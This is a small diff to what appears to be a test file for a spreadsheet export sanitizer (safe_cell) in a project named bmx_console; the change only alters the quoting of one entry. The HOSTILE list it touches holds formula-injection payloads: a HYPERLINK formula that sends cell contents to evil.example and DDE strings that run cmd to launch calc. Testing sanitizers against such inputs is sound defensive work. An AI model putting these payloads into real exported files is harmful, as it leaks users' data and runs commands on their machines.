@@ -15,7 +15,7 @@ from bmx_console.core.audit import AuditError, AuditLog
 from bmx_console.core.audit_export import safe_cell
 
 HOSTILE = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1+1)*cmd|' /C calc'!A0",
